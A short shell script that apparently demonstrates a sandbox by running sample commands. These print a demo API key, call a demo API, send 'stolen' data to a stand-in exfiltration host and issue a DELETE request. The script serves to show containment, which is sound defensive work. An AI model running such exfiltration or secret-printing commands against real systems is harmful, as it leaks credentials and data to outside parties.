# What runs in the sandbox of the demonstration: an ordinary script with ordinary programs.
show() { printf '    $ %s\n' "$1"; sh -c "$1" 2>&1 | sed 's/^/      /'; }

show 'echo "$DEMO_API_KEY"'
show 'curl -sS -H "Authorization: Bearer $DEMO_API_KEY" https://api.demo.example:8443/v1/hello'
show 'curl -sS https://exfiltration.example/?data=stolen'
show 'curl -sS -X DELETE https://api.demo.example:8443/v1/hello'
show 'curl -sS -m 5 --resolve x.example:443:192.0.2.1 https://x.example/ -o /dev/null -w "status %{http_code}\n"'
show 'ping -c 1 -W 1 192.0.2.1 || true'
